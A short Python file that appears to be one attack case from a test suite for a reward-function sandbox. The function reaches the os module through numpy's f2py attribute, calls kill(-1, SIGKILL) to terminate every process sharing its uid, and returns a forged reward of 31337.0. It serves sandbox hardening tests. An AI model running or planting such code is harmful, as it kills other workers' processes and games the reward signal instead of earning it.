# Attack: class 6 (signals) — kill(-1, SIGKILL): every process of the shared uid (the sibling workers) via f2py.os.
# Success would create /tmp/reward_sandbox_attack_marker or return 31337.0.
import numpy as np
def reward_function(params):
    np.f2py.os.kill(-1, 9)
    return 31337.0
